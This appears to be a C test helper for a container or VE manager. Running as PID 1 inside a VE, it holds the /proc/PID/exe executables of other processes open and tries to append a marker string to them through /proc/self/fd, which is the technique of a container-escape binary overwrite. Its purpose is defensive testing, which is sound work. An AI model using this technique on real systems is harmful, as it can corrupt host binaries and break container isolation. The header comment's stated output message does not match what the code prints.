/* SPDX-License-Identifier: LGPL-2.1-or-later */

/*
 * Attacks whoever enters a VE: keeps the executable of every other process open and tries to write
 * to it, by each descriptor, for argv[1] seconds. Prints "overwriter: wrote to PID" when it could.
 * Runs as PID 1 of a VE, or, for a control, on the host against one process, argv[2].
 */

#include <dirent.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static int kept[512];
static int n_kept;

static void keep(const char *pid) {
        char path[64];
        int fd;

        snprintf(path, sizeof(path), "/proc/%.20s/exe", pid);
        fd = open(path, O_RDONLY | O_CLOEXEC);
        if (fd < 0)
                return;
        if (n_kept == 512) {
                close(kept[--n_kept]);
        }
        kept[n_kept++] = fd;
}

static void try_to_write(void) {
        for (int i = 0; i < n_kept; i++) {
                char path[64];
                int fd;

                snprintf(path, sizeof(path), "/proc/self/fd/%d", kept[i]);
                fd = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
                if (fd < 0)
                        continue;
                if (write(fd, "overwritten", 11) == 11)
                        printf("overwriter: wrote to an executable\n");
                close(fd);
        }
}

int main(int argc, char *argv[]) {
        time_t end = time(NULL) + (argc > 1 ? atoi(argv[1]) : 5);
        char self[24];

        setvbuf(stdout, NULL, _IOLBF, 0);
        snprintf(self, sizeof(self), "%d", (int) getpid());
        printf("overwriter: up\n");
        while (time(NULL) < end) {
                DIR *proc = argc > 2 ? NULL : opendir("/proc");
                struct dirent *entry;

                if (argc > 2)
                        keep(argv[2]);
                while (proc && (entry = readdir(proc)))
                        if (atoi(entry->d_name) > 1)
                                keep(entry->d_name);
                if (proc)
                        closedir(proc);
                try_to_write();
                while (waitpid(-1, NULL, WNOHANG) > 0)
                        ;
        }
        printf("overwriter: ended\n");
        if (getpid() != 1)
                return 0;
        for (;;)
                pause();
}
